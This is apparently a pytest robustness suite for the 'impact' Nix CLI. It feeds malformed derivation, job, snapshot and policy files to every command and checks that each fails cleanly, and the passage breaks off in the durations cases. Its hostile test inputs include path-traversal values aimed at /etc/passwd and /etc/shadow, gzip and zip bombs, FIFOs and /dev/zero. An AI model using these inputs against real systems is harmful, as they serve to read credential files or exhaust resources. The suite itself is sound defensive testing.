"""The probe: hundreds of bad inputs, fed to every loader through every command, each answered as promised.

Every case asserts: exit code 2, exactly one line on stderr (`impact: error: …`), no traceback, an answer
within a timeout (a FIFO or a gzip bomb must not hold the command), nothing on stdout, and no file left
behind (no `*.tmp`, no half-written output). The CLI runs in-process (`impact.cli.main`), which is fast on a
shared machine; one case runs in a real process to check the same holds there.

Cases are built from a small valid snapshot (two derivations, one job) by breaking one thing at a time, so each
case is bad for exactly the reason its name says.
"""

from __future__ import annotations

import copy
import gzip
import json
import os
import signal
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from impact.cli import main

S = "/nix/store/"
LIB_DRV = f"{S}{'1' * 32}-lib-1.0.drv"
APP_DRV = f"{S}{'2' * 32}-app-1.0.drv"
LIB_OUT = f"{S}{'3' * 32}-lib-1.0"
APP_OUT = f"{S}{'4' * 32}-app-1.0"
SRC = f"{S}{'5' * 32}-src"
TIMEOUT = int(os.environ.get("IMPACT_PROBE_TIMEOUT", "20"))
TOKEN = "ghs_probeTokenValue0123456789"


def derivations() -> dict[str, Any]:
    """A valid `nix show-derivation -r` document: app depends on lib."""
    return {
        LIB_DRV: {
            "outputs": {"out": {"path": LIB_OUT}},
            "inputSrcs": [SRC],
            "inputDrvs": {},
            "system": "x86_64-linux",
            "builder": "/bin/sh",
            "args": [],
            "env": {"name": "lib-1.0"},
        },
        APP_DRV: {
            "outputs": {"out": {"path": APP_OUT}},
            "inputSrcs": [],
            "inputDrvs": {LIB_DRV: ["out"]},
            "system": "x86_64-linux",
            "builder": "/bin/sh",
            "args": [],
            "env": {"name": "app-1.0"},
        },
    }


def job() -> dict[str, Any]:
    """A valid nix-eval-jobs line (as a dict) for app."""
    return {
        "attr": "app.x86_64-linux",
        "attrPath": ["app", "x86_64-linux"],
        "drvPath": APP_DRV,
        "jobset": "nixpkgs",
        "name": "app-1.0",
        "system": "x86_64-linux",
        "outputs": {"out": APP_OUT},
        "meta": {"maintainers": ["alice"], "position": "pkgs/app/default.nix:3"},
    }


def aterm(outputs: str, inputs: str = "[]", srcs: str = "[]", env: str = '[("name","lib-1.0")]') -> str:
    return f'Derive({outputs},{inputs},{srcs},"x86_64-linux","/bin/sh",[],{env})'


GOOD_OUTPUTS = f'[("out","{LIB_OUT}","","")]'
DEEP = "[" * 200_000
HUGE = "1" * 5000


# -- what a case is --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One bad input: `build(folder)` writes it and returns the command line that reads it."""

    name: str
    build: Callable[[Path], list[str]]
    env: tuple[tuple[str, str], ...] = ()


CASES: list[Case] = []


def case(name: str, build: Callable[[Path], list[str]], **env: str) -> None:
    assert name not in {c.name for c in CASES}, name
    CASES.append(Case(name, build, tuple(env.items())))


def write(path: Path, data: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
    return path


def good_folder(folder: Path, jobs: str | None = None, drvs: str | None = None) -> Path:
    """A snapshot folder (jobs.jsonl + derivations.json), either file replaced by the text given."""
    write(folder / "jobs.jsonl", jobs if jobs is not None else json.dumps(job()) + "\n")
    write(folder / "derivations.json", drvs if drvs is not None else json.dumps(derivations()))
    return folder


# Every command that reads a snapshot, as the argv that reads SNAP (the bad input) and what else it needs.
def _snapshot_commands(snap: str, tmp: Path) -> list[list[str]]:
    good = str(tmp / "good-snap")
    return [
        ["estimate", "app", "--snapshot", snap],
        ["why", "lib", "--change", "lib", "--snapshot", snap],
        ["outputs", "lib", "--snapshot", snap],
        ["rank", "--snapshot", snap],
        ["compare", "lib", "app", "--snapshot", snap],
        ["snapshot", "info", "--snapshot", snap],
        ["snapshot", "import", snap, "-o", str(tmp / "out" / "x.impact")],
        ["branches", snap, good],
        ["branches", good, snap],
        ["diff", good, snap],
        ["pr", snap, good, "-o", str(tmp / "report")],
        ["estimate", "app", "--snapshot", snap, "--format", "markdown"],
    ]


_ROUND = iter(range(10**9))


def snapshot_case(name: str, make: Callable[[Path], Path], *, every_command: bool = False) -> None:
    """Register the bad snapshot `make(folder)` read by one command (in turn), or by every one."""

    def build_for(k: int) -> Callable[[Path], list[str]]:
        def build(tmp: Path) -> list[str]:
            snap = str(make(tmp / "in"))
            good_folder(tmp / "good-snap")
            commands = _snapshot_commands(snap, tmp)
            return commands[k % len(commands)]

        return build

    if every_command:
        for k in range(len(_snapshot_commands("x", Path("/nonexistent")))):
            case(f"{name}/cmd{k}", build_for(k))
    else:
        case(name, build_for(next(_ROUND)))


# -- show-derivation JSON --------------------------------------------------------------------------------------


def json_file(text: str, suffix: str = ".json") -> Callable[[Path], Path]:
    return lambda d: write(d / f"derivations{suffix}", text)


def mutate(edit: Callable[[dict[str, Any]], None]) -> Callable[[Path], Path]:
    def make(d: Path) -> Path:
        doc = derivations()
        edit(doc)
        return write(d / "derivations.json", json.dumps(doc))

    return make


def _set(path: list[str], value: Any) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        target: Any = doc
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = copy.deepcopy(value)

    return edit


WRONG = {"int": 5, "float": 2.5, "bool": True, "list": [1], "object": {"a": 1}}
FIELDS: dict[str, tuple[list[str], tuple[str, ...]]] = {
    # field path → the wrong types that must be refused there
    "derivation": ([APP_DRV], ("int", "float", "bool", "list")),
    "outputs": ([APP_DRV, "outputs"], ("int", "float", "bool", "list")),
    "output": ([APP_DRV, "outputs", "out"], ("int", "float", "bool", "list")),
    "output-path": ([APP_DRV, "outputs", "out", "path"], ("int", "float", "bool", "list", "object")),
    "inputDrvs": ([APP_DRV, "inputDrvs"], ("int", "float", "bool", "list")),
    "input-outputs": ([APP_DRV, "inputDrvs", LIB_DRV], ("int", "float", "bool", "list")),
    "inputSrcs": ([LIB_DRV, "inputSrcs"], ("int", "float", "bool", "object")),
    "system": ([APP_DRV, "system"], ("int", "float", "bool", "list", "object")),
    "env": ([APP_DRV, "env"], ("int", "float", "bool", "list")),
    "name": ([APP_DRV, "env", "name"], ("int", "float", "bool", "list", "object")),
    "__json": ([APP_DRV, "env", "__json"], ("int", "float", "bool", "list", "object")),
}
for field, (path, kinds) in FIELDS.items():
    for kind in kinds:
        snapshot_case(f"drv-json/{field}-is-{kind}", mutate(_set(path, WRONG[kind])))

# requiredSystemFeatures is a string (plain attributes) or a list of strings (structured ones): never a number.
for kind, value in {**{k: WRONG[k] for k in ("int", "float", "bool", "object")}, "list-of-ints": [1, 2]}.items():
    snapshot_case(
        f"drv-json/requiredSystemFeatures-is-{kind}",
        mutate(_set([APP_DRV, "env", "requiredSystemFeatures"], value)),
    )
    snapshot_case(
        f"drv-json/__json-requiredSystemFeatures-is-{kind}",
        mutate(_set([APP_DRV, "env", "__json"], json.dumps({"requiredSystemFeatures": value}))),
    )
    snapshot_case(
        f"drv-json/structuredAttrs-requiredSystemFeatures-is-{kind}",
        mutate(_set([APP_DRV, "structuredAttrs"], {"requiredSystemFeatures": value})),
    )

for label, value in {
    "null-doc": "null",
    "list-doc": "[1, 2]",
    "string-doc": '"x"',
    "number-doc": "5",
    "empty-file": "",
    "truncated": json.dumps(derivations())[:100],
    "deep-nesting": DEEP,
    "deep-object": '{"a":' * 100_000,
    "huge-integer": HUGE,
    "huge-integer-field": json.dumps(derivations()).replace('"args": []', f'"args": [{HUGE}]', 1),
    "trailing-garbage": json.dumps(derivations()) + " x",
    "bom": "\ufeff" + json.dumps(derivations()),
    "nan-doc": "NaN",
    "wrapped-bad-derivations": json.dumps({"derivations": 5, "version": 4}),
}.items():
    snapshot_case(f"drv-json/{label}", json_file(value))

for label, edit in {
    "empty-key": lambda d: d.__setitem__("", d.pop(APP_DRV)),
    "newline-key": lambda d: d.__setitem__("/nix/store/a\nb.drv", d.pop(APP_DRV)),
    "dotdot-key": lambda d: d.__setitem__("/nix/store/../../etc/passwd.drv", d.pop(APP_DRV)),
    "dotdot-input": lambda d: d[APP_DRV].__setitem__("inputDrvs", {"/nix/store/../x.drv": ["out"]}),
    "missing-input": lambda d: d[APP_DRV].__setitem__("inputDrvs", {f"{S}{'9' * 32}-gone.drv": ["out"]}),
    "cycle": lambda d: d[LIB_DRV].__setitem__("inputDrvs", {APP_DRV: ["out"]}),
    "self-loop": lambda d: d[LIB_DRV].__setitem__("inputDrvs", {LIB_DRV: ["out"]}),
    "no-outputs": lambda d: d[APP_DRV].pop("outputs"),
    "no-name": lambda d: d[APP_DRV].__setitem__("env", {}),
    "no-system": lambda d: d[APP_DRV].pop("system"),
    "empty-system": lambda d: d[APP_DRV].__setitem__("system", ""),
    "input-src-int": lambda d: d[LIB_DRV].__setitem__("inputSrcs", [5]),
    "input-src-newline": lambda d: d[LIB_DRV].__setitem__("inputSrcs", ["/nix/store/a\nb"]),
    "input-outputs-ints": lambda d: d[APP_DRV]["inputDrvs"].__setitem__(LIB_DRV, [1, 2]),
    "output-path-newline": lambda d: d[APP_DRV]["outputs"]["out"].__setitem__("path", "/nix/store/a\nb"),
    "__json-invalid": lambda d: d[APP_DRV]["env"].__setitem__("__json", "{"),
    "__json-list": lambda d: d[APP_DRV]["env"].__setitem__("__json", "[1]"),
    "__json-deep": lambda d: d[APP_DRV]["env"].__setitem__("__json", DEEP),
    "__json-huge-int": lambda d: d[APP_DRV]["env"].__setitem__("__json", '{"x": ' + HUGE + "}"),
    "structuredAttrs-list": lambda d: d[APP_DRV].__setitem__("structuredAttrs", [1]),
}.items():
    snapshot_case(f"drv-json/{label}", mutate(edit))

# Fixed outputs given by hash alone (newest Nix): a hash that cannot be read must not become an invented path.
for label, out in {
    "hash-garbage": {"method": "flat", "hashAlgo": "sha256", "hash": "zzzz"},
    "hash-short-sri": {"method": "flat", "hash": "sha256-AAAA"},
    "hash-long-hex": {"method": "flat", "hashAlgo": "sha256", "hash": "ab" * 40},
    "hash-bad-base32": {"method": "nar", "hashAlgo": "sha256", "hash": "e" * 52},
    "hash-unknown-algo": {"method": "flat", "hashAlgo": "sha999", "hash": "ab" * 32},
    "hash-no-algo": {"method": "flat", "hash": "ab" * 32},
    "hash-bad-base64": {"method": "flat", "hash": "sha256-!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!="},
    "hash-object-bad": {"method": "flat", "hash": {"algorithm": "sha256", "format": "base16", "hash": "xyz"}},
    "hash-object-int": {"method": "flat", "hash": {"algorithm": "sha256", "format": "base64", "hash": 5}},
    "hash-list": {"method": "flat", "hashAlgo": "sha256", "hash": ["ab"]},
    "method-unknown": {"method": "git", "hashAlgo": "sha1", "hash": "ab" * 20},
    "method-junk": {"method": "flat\n", "hashAlgo": "sha256", "hash": "ab" * 32},
}.items():
    snapshot_case(f"fixed-output/{label}", mutate(_set([LIB_DRV, "outputs", "out"], out)))


# -- nix-eval-jobs lines ----------------------------------------------------------------------------------------


def jobs_folder(lines: str) -> Callable[[Path], Path]:
    return lambda d: good_folder(d / "snap", jobs=lines)


def job_line(edit: Callable[[dict[str, Any]], None]) -> str:
    record = job()
    edit(record)
    return json.dumps(record) + "\n"


JOB_FIELDS = {
    "attr": ("int", "list", "object", "bool"),
    "drvPath": ("int", "float", "list", "object", "bool"),
    "system": ("int", "float", "list", "object", "bool"),
    "jobset": ("int", "list", "object", "bool"),
    "meta": ("int", "list", "bool"),
    "outputs": ("int", "list", "bool"),
    "name": ("int", "list", "object"),
}
for field, kinds in JOB_FIELDS.items():
    for kind in kinds:
        edit = (
            (lambda f, v: lambda r: (r.__setitem__(f, v), r.pop("attrPath")))(field, WRONG[kind])
            if field == "attr"
            else (lambda f, v: lambda r: r.__setitem__(f, v))(field, WRONG[kind])
        )
        snapshot_case(f"jobs/{field}-is-{kind}", jobs_folder(job_line(edit)))

# A job's drvPath names the file read next: only the path of a .drv in a store.
for label, drv_path in {
    "drvPath-not-drv": "/etc/passwd",
    "drvPath-dotdot": f"{S}{'1' * 32}-lib.drv/../../../etc/passwd",
    "drvPath-dot": f"{S}./{'1' * 32}-lib.drv",
    "drvPath-control": f"{S}{'1' * 32}-li\x1bb.drv",
}.items():
    snapshot_case(f"jobs/{label}", jobs_folder(job_line((lambda p: lambda r: r.__setitem__("drvPath", p))(drv_path))))

for label, lines in {
    "line-is-list": "[1]\n",
    "line-is-number": "5\n",
    "line-is-string": '"x"\n',
    "line-is-null": "null\n",
    "not-json": "{not json\n",
    "no-attr": job_line(lambda r: (r.pop("attr"), r.pop("attrPath"))),
    "attrPath-ints": job_line(lambda r: (r.pop("attr"), r.__setitem__("attrPath", [1, 2]))),
    "attrPath-string": job_line(lambda r: (r.pop("attr"), r.__setitem__("attrPath", "a.b"))),
    "no-drvPath": job_line(lambda r: r.pop("drvPath")),
    "empty-drvPath": job_line(lambda r: r.__setitem__("drvPath", "")),
    "newline-drvPath": job_line(lambda r: r.__setitem__("drvPath", "/nix/store/a\nb.drv")),
    "no-system": job_line(lambda r: r.pop("system")),
    "output-path-int": job_line(lambda r: r.__setitem__("outputs", {"out": 5})),
    "maintainers-int": job_line(lambda r: r["meta"].__setitem__("maintainers", 5)),
    "maintainers-string": job_line(lambda r: r["meta"].__setitem__("maintainers", "alice")),
    "job-twice-differently": job_line(lambda r: None) + job_line(lambda r: r.__setitem__("drvPath", LIB_DRV)),
    "deep-nesting": DEEP + "\n",
    "huge-integer": '{"attr": ' + HUGE + "}\n",
    "job-names-missing-derivation": job_line(lambda r: r.__setitem__("drvPath", f"{S}{'8' * 32}-gone.drv")),
    "second-line-broken": job_line(lambda r: None) + '{"attr": \n',
}.items():
    snapshot_case(f"jobs/{label}", jobs_folder(lines))


def bytes_folder(jobs: bytes | None = None, drvs: bytes | None = None) -> Callable[[Path], Path]:
    def make(d: Path) -> Path:
        folder = good_folder(d / "snap")
        if jobs is not None:
            (folder / "jobs.jsonl").unlink()
            write(folder / "jobs.jsonl.gz", jobs)
        if drvs is not None:
            (folder / "derivations.json").unlink()
            write(folder / "derivations.json.gz", drvs)
        return folder

    return make


def _bomb(expanded_mb: int = 160) -> bytes:
    """A gzip file of many members of zeros: a few hundred kilobytes that expand to `expanded_mb` megabytes."""
    member = gzip.compress(b"\0" * (1 << 20), 9)
    return member * expanded_mb


_GOOD_DRVS_GZ = gzip.compress(json.dumps(derivations()).encode())
for label, make in {
    "gzip-bomb-derivations": bytes_folder(drvs=_bomb()),
    "gzip-bomb-jobs": bytes_folder(jobs=_bomb()),
    "gzip-truncated": bytes_folder(drvs=_GOOD_DRVS_GZ[: len(_GOOD_DRVS_GZ) // 2]),
    "gzip-garbage-after-magic": bytes_folder(drvs=b"\x1f\x8b" + os.urandom(200)),
    "gzip-trailing-garbage": bytes_folder(drvs=_GOOD_DRVS_GZ + b"garbage"),
    "gzip-non-utf8": bytes_folder(drvs=gzip.compress(b'{"\xff": 1}')),
    "gzip-empty-member": bytes_folder(jobs=gzip.compress(b"")[:10]),
    "non-utf8-derivations": lambda d: good_folder(d / "snap", drvs=b'{"a\xc3\x28": 1}'.decode("latin-1")),
}.items():
    snapshot_case(f"folder/{label}", make)


def non_utf8_file(name: str, data: bytes) -> Callable[[Path], Path]:
    return lambda d: write(d / name, data)


for label, (name, data) in {
    "json-latin1": ("derivations.json", b'{"caf\xe9": 1}'),
    "jsonl-latin1": ("jobs.jsonl", b'{"attr": "caf\xe9"}\n'),
    "drv-latin1": (f"{'1' * 32}-lib.drv", b'Derive([("out","/nix/store/caf\xe9","","")])'),
    "json-utf16": ("derivations.json", json.dumps(derivations()).encode("utf-16")),
    "json-nul-bytes": ("derivations.json", b"\0" * 64),
    "jsonl-binary": ("jobs.jsonl", os.urandom(256).replace(b"\n", b"")),
}.items():
    snapshot_case(f"encoding/{label}", non_utf8_file(name, data))


# -- ATerm .drv files --------------------------------------------------------------------------------------------


def drv_file(text: str, name: str = f"{'1' * 32}-lib-1.0.drv") -> Callable[[Path], Path]:
    return lambda d: write(d / name, text)


for label, text in {
    "not-aterm": '{"this": "is JSON"}',
    "empty": "",
    "truncated": aterm(GOOD_OUTPUTS)[:40],
    "trailing-text": aterm(GOOD_OUTPUTS) + "x",
    "six-fields": 'Derive([],[],[],"x86_64-linux","/bin/sh",[])',
    "eight-fields": 'Derive([],[],[],"x86_64-linux","/bin/sh",[],[],[])',
    "outputs-not-tuples": aterm('["out"]'),
    "output-three-strings": aterm('[("out","/nix/store/x","")]'),
    "output-list-in-tuple": aterm('[("out",["x"],"","")]'),
    "inputs-not-pairs": aterm(GOOD_OUTPUTS, inputs='[("a")]'),
    "input-relative": aterm(GOOD_OUTPUTS, inputs='[("lib.drv",["out"])]'),
    "input-dotdot": aterm(GOOD_OUTPUTS, inputs='[("/nix/store/../../etc/shadow.drv",["out"])]'),
    "input-not-drv": aterm(GOOD_OUTPUTS, inputs='[("/etc/passwd",["out"])]'),
    "input-outputs-tuple": aterm(GOOD_OUTPUTS, inputs=f'[("{LIB_DRV}",("out"))]'),
    "srcs-tuple": aterm(GOOD_OUTPUTS, srcs='[("a","b")]'),
    "system-list": 'Derive([],[],[],["x"],"/bin/sh",[],[])',
    "env-not-pairs": aterm(GOOD_OUTPUTS, env='[("name")]'),
    "env-value-list": aterm(GOOD_OUTPUTS, env='[("name",["x"])]'),
    "unterminated-string": 'Derive([("out","/nix/store/x',
    "deep-nesting": "Derive(" + DEEP,
    "unknown-version": 'DrvWithVersion("v99",[],[],[],"s","b",[],[])',
    "__json-invalid": aterm(GOOD_OUTPUTS, env='[("__json","{")]'),
    "__json-list": aterm(GOOD_OUTPUTS, env='[("__json","[1]")]'),
    "__json-deep": aterm(GOOD_OUTPUTS, env='[("__json","' + DEEP + '")]'),
    "__json-huge-int": aterm(GOOD_OUTPUTS, env='[("__json","{\\"x\\": ' + HUGE + '}")]'),
    "bare-token": "Derive(x)",
    "__json-features-number": aterm(GOOD_OUTPUTS, env='[("__json","{\\"requiredSystemFeatures\\": 5}")]'),
    "__json-features-ints": aterm(GOOD_OUTPUTS, env='[("__json","{\\"requiredSystemFeatures\\": [1]}")]'),
    "missing-input-file": aterm(GOOD_OUTPUTS, inputs=f'[("{S}{"7" * 32}-gone.drv",["out"])]'),
}.items():
    snapshot_case(f"drv/{label}", drv_file(text))


def drv_cycle(d: Path) -> Path:
    a, b = f"{S}{'a' * 32}-a.drv", f"{S}{'b' * 32}-b.drv"
    write(d / Path(a).name, aterm(f'[("out","{S}{"c" * 32}-a","","")]', inputs=f'[("{b}",["out"])]'))
    write(d / Path(b).name, aterm(f'[("out","{S}{"d" * 32}-b","","")]', inputs=f'[("{a}",["out"])]'))
    return d / Path(a).name


def drv_folder_cycle(d: Path) -> Path:
    drv_cycle(d / "store")
    return d / "store"


def drv_folder_missing(d: Path) -> Path:
    write(d / "store" / "x.drv", aterm(GOOD_OUTPUTS, inputs=f'[("{S}{"6" * 32}-gone.drv",["out"])]'))
    return d / "store"


def empty_folder(d: Path) -> Path:
    (d / "empty").mkdir(parents=True)
    return d / "empty"


for label, make in {
    "cycle-files": drv_cycle,
    "cycle-folder": drv_folder_cycle,
    "folder-missing-input": drv_folder_missing,
    "empty-folder": empty_folder,
}.items():
    snapshot_case(f"drv/{label}", make)


# -- compact .impact snapshots -------------------------------------------------------------------------------------


def _good_arrays() -> dict[str, np.ndarray]:
    """The arrays of a version-1 snapshot (a zip of arrays), to forge bad ones from; version 2's damaged files
    are tested in tests/test_compact.py."""
    from impact.loaders.compact import write_compact_v1
    from impact.loaders.eval_jobs import parse_job_lines
    from impact.loaders.show_derivation import parse_derivations
    from impact.model import DerivationGraph

    jobs, errors = parse_job_lines([json.dumps(job())])
    graph = DerivationGraph.from_records(parse_derivations(derivations()), jobs, errors)
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        write_compact_v1(graph, Path(tmp) / "g.impact")
        with np.load(Path(tmp) / "g.impact") as z:
            return {k: z[k] for k in z.files}


_ARRAYS: dict[str, np.ndarray] = {}


def impact_file(
    change: dict[str, Any] | None = None, header: dict[str, Any] | None = None, raw_header: bytes | None = None
) -> Callable[[Path], Path]:
    def make(d: Path) -> Path:
        if not _ARRAYS:
            _ARRAYS.update(_good_arrays())
        arrays = dict(_ARRAYS)
        if header is not None:
            h = json.loads(arrays["header"].tobytes())
            h.update(header)
            arrays["header"] = np.frombuffer(json.dumps(h).encode(), dtype=np.uint8)
        if raw_header is not None:
            arrays["header"] = np.frombuffer(raw_header, dtype=np.uint8)
        for k, v in (change or {}).items():
            if v is None:
                arrays.pop(k, None)
            else:
                arrays[k] = v
        d.mkdir(parents=True, exist_ok=True)
        with (d / "s.impact").open("wb") as f:
            np.savez_compressed(f, **arrays)
        return d / "s.impact"

    return make


def i8(*v: int) -> np.ndarray:
    return np.array(v, dtype=np.int8)


def i32(*v: int) -> np.ndarray:
    return np.array(v, dtype=np.int32)


def i64(*v: int) -> np.ndarray:
    return np.array(v, dtype=np.int64)


for label, kwargs in {
    "negative-jobset-id": {"change": {"job_jobset_ids": i8(-1)}},
    "jobset-id-too-big": {"change": {"job_jobset_ids": i8(5)}},
    "negative-job-drv": {"change": {"job_drv": i32(-1)}},
    "job-drv-too-big": {"change": {"job_drv": i32(2)}},
    "too-many-jobs": {"change": {"job_drv": i32(1, 1)}},
    "input-out-of-range": {"change": {"input_indices": i32(7)}},
    "negative-input": {"change": {"input_indices": i32(-3)}},
    "indptr-backwards": {"change": {"input_indptr": i64(0, 1, 0)}},
    "indptr-short": {"change": {"input_indptr": i64(0, 1)}},
    "indptr-not-from-zero": {"change": {"input_indptr": i64(1, 1, 1)}},
    "source-out-of-range": {"change": {"source_indices": i32(4)}},
    "system-id-out-of-range": {"change": {"system_ids": np.array([0, 3], dtype=np.int16)}},
    "output-set-out-of-range": {"change": {"output_set_ids": np.array([0, 9], dtype=np.int16)}},
    "float-ids": {"change": {"job_drv": np.array([0.5])}},
    "2d-array": {"change": {"job_drv": np.zeros((1, 1), dtype=np.int32)}},
    "short-hashes": {"change": {"drv_hashes": np.zeros(10, dtype=np.uint8)}},
    "non-ascii-hashes": {"change": {"drv_hashes": np.full(64, 0xFF, dtype=np.uint8)}},
    "names-count": {"change": {"names": np.frombuffer(b"a\nb\nc", dtype=np.uint8)}},
    "names-non-utf8": {"change": {"names": np.frombuffer(b"\xff\nb", dtype=np.uint8)}},
    "missing-names": {"change": {"names": None}},
    "missing-job-drv": {"change": {"job_drv": None}},
    "fixed-output-wrong-length": {"change": {"fixed_output": np.zeros(5, dtype=bool)}},
    "fixed-output-ints": {"change": {"fixed_output": np.zeros(2, dtype=np.int64)}},
    "cycle": {"change": {"input_indptr": i64(0, 1, 2), "input_indices": i32(1, 0), "input_output_set": i32(0, 0)}},
    "header-version": {"header": {"version": 7}},
    "header-format": {"header": {"format": "other"}},
    "header-derivations-string": {"header": {"derivations": "2"}},
    "header-derivations-negative": {"header": {"derivations": -1}},
    "header-jobs-bool": {"header": {"jobs": True}},
    "header-systems-int": {"header": {"systems": 5}},
    "header-jobsets-ints": {"header": {"jobsets": [1]}},
    "header-output-sets-bad": {"header": {"output_sets": [[1]]}},
    "header-eval-errors-bad": {"header": {"eval_errors": [["a"]]}},
    "header-exceptions-bad": {"header": {"exceptions": {"drv": {"9": "x"}, "out": {}}}},
    "header-exceptions-out-bad": {"header": {"exceptions": {"drv": {}, "out": {"0/zzz": "x"}}}},
    "header-features-bad": {"header": {"features": {"0": 5}}},
    "header-job-outputs-bad": {"header": {"job_outputs": {"5": {}}}},
    "header-strings-bad": {"header": {"strings": {"names": {"99": "x"}}}},
    "header-meta-list": {"header": {"meta": [1]}},
    "header-job-systems-short": {"header": {"job_systems": []}},
    "header-not-json": {"raw_header": b"{not json"},
    "header-list": {"raw_header": b"[1]"},
    "header-deep": {"raw_header": DEEP.encode()},
    "header-huge-int": {"raw_header": HUGE.encode()},
    "header-non-utf8": {"raw_header": b'{"\xff": 1}'},
    "no-header": {"change": {"header": None}},
}.items():
    snapshot_case(f"impact/{label}", impact_file(**kwargs))


def truncated_impact(d: Path) -> Path:
    path = impact_file()(d)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def zip_bomb_impact(d: Path) -> Path:
    path = impact_file()(d)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("pad.npy", b"\0" * (96 << 20))
    return path


def zip_without_header(d: Path) -> Path:
    path = d / "s.impact"
    d.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("names.npy", b"x")
    return path


for label, make in {
    "truncated": truncated_impact,
    "zip-bomb-member": zip_bomb_impact,
    "zip-without-header": zip_without_header,
    "not-a-zip": lambda d: write(d / "s.impact", b"PK\x03\x04 not really"),
    "empty": lambda d: write(d / "s.impact", b""),
    "text": lambda d: write(d / "s.impact", "hello"),
}.items():
    snapshot_case(f"impact/{label}", make)


# -- what is not a file: FIFOs, devices, folders ------------------------------------------------------------------


def fifo(name: str) -> Callable[[Path], Path]:
    def make(d: Path) -> Path:
        d.mkdir(parents=True, exist_ok=True)
        os.mkfifo(d / name)
        return d / name

    return make


for name in ("x.drv", "x.jsonl", "x.jsonl.gz", "x.json", "x.json.gz", "x.impact", "x"):
    snapshot_case(f"special/fifo-{name}", fifo(name))


def fifo_in_folder(which: str) -> Callable[[Path], Path]:
    def make(d: Path) -> Path:
        folder = good_folder(d / "snap")
        (folder / which).unlink()
        os.mkfifo(folder / which)
        return folder

    return make


# A folder whose jobs file is a FIFO is not a snapshot folder (is_file is false): it is read as a store folder.
snapshot_case("special/fifo-derivations-in-folder", fifo_in_folder("derivations.json"))
snapshot_case("special/dev-null", lambda d: Path("/dev/null"))
snapshot_case("special/dev-zero-as-impact", lambda d: Path("/dev/zero"))
snapshot_case("special/missing", lambda d: d / "nowhere.impact")
snapshot_case("special/unknown-suffix", lambda d: write(d / "x.txt", "hello"))
snapshot_case("special/folder-named-drv", lambda d: (d / "x.drv").mkdir(parents=True) or d / "x.drv")

# A few bad snapshots through every command, so each command is known to answer them as promised.
snapshot_case("every/fifo", fifo("every.jsonl"), every_command=True)
snapshot_case("every/cycle", mutate(_set([LIB_DRV, "inputDrvs"], {APP_DRV: ["out"]})), every_command=True)
snapshot_case("every/negative-jobset", impact_file(change={"job_jobset_ids": i8(-1)}), every_command=True)


# -- policy TOML (estimate and compare --policy) -------------------------------------------------------------------


def with_snapshot(tmp: Path) -> str:
    return str(good_folder(tmp / "good-snap"))


_POLICY_COMMANDS = ["estimate", "compare"]


def policy_case(name: str, make: Callable[[Path], Path]) -> None:
    k = len(CASES)

    def build(tmp: Path) -> list[str]:
        policy = str(make(tmp / "in"))
        if _POLICY_COMMANDS[k % 2] == "estimate":
            return ["estimate", "app", "--snapshot", with_snapshot(tmp), "--policy", policy]
        return ["compare", "lib", "app", "--snapshot", with_snapshot(tmp), "--policy", policy]

    case(f"policy/{name}", build)


GOOD_POLICY = '[policy]\nname = "p"\n[[line]]\nmaster = "master"\n'
for label, text in {
    "not-toml": "[policy\n",
    "empty": "",
    "policy-int": "policy = 5\n" + '[[line]]\nmaster = "master"\n',
    "line-int": "line = 5\n",
    "line-string": 'line = "master"\n',
    "rule-int": GOOD_POLICY + "rule = 5\n",
    "line-not-table": "line = [5]\n",
    "line-no-primary": '[[line]]\nother = "x"\n',
    "line-value-int": "[[line]]\nmaster = 5\n",
    "measure-int": "[policy]\nmeasure = 5\n" + '[[line]]\nmaster = "master"\n',
    "measure-unknown": '[policy]\nmeasure = "bananas"\n[[line]]\nmaster = "master"\n',
    "rule-no-id": GOOD_POLICY + '[[rule]]\ntarget = "x"\n',
    "rule-unknown-key": GOOD_POLICY + '[[rule]]\nid = "r"\nbogus = 1\n',
    "rule-when-int": GOOD_POLICY + '[[rule]]\nid = "r"\nwhen = 5\n',
    "rule-when-unknown": GOOD_POLICY + '[[rule]]\nid = "r"\n[rule.when]\nbogus = 1\n',
    "rule-when-wrong-type": GOOD_POLICY + '[[rule]]\nid = "r"\n[rule.when]\nrebuilds-at-least = "x"\n',
    "rule-target-int": GOOD_POLICY + '[[rule]]\nid = "r"\ntarget = 5\n',
    "rule-no-target": GOOD_POLICY + '[[rule]]\nid = "r"\n',
    "root-name-int": '[policy]\n[policy.kernel-change]\nroot-name = 5\n[[line]]\nmaster = "master"\n',
    "root-name-bad-regex": '[policy]\n[policy.kernel-change]\nroot-name = "("\n[[line]]\nmaster = "master"\n',
    "deep-array": "x = " + "[" * 50_000 + "\n",
    "huge-integer": f"x = {HUGE}\n",
    "latin1": "[policy]\nname = 'caf\xe9'\n",
    "utf16": GOOD_POLICY,
}.items():
    if label == "latin1":
        policy_case(label, (lambda t: lambda d: write(d / "p.toml", t.encode("latin-1")))(text))
    elif label == "utf16":
        policy_case(label, (lambda t: lambda d: write(d / "p.toml", t.encode("utf-16")))(text))
    else:
        policy_case(label, (lambda t: lambda d: write(d / "p.toml", t))(text))
policy_case("fifo", fifo("p.toml"))
policy_case("folder", empty_folder)
policy_case("dev-zero", lambda d: Path("/dev/zero"))
policy_case("missing", lambda d: d / "none.toml")


# -- durations (estimate --cost --durations) -------------------------------------------------------------------------


def durations_case(name: str, make: Callable[[Path], Path]) -> None:
    case(
        f"durations/{name}",
        lambda tmp: [
            "estimate",
            "app",
            "--snapshot",
            with_snapshot(tmp),
            "--cost",
            "--durations",
            str(make(tmp / "in")),
        ],
    )


BUILD = {"starttime": 100, "stoptime": 200, "drvpath": APP_DRV, "job": "app.x86_64-linux", "buildstatus": 0}
for label, value in {
    "bad-timestamp": [{**BUILD, "timestamp": "yesterday"}],
    "timestamp-list": [{**BUILD, "timestamp": [1]}],
    "starttime-string": [{**BUILD, "starttime": "x"}],
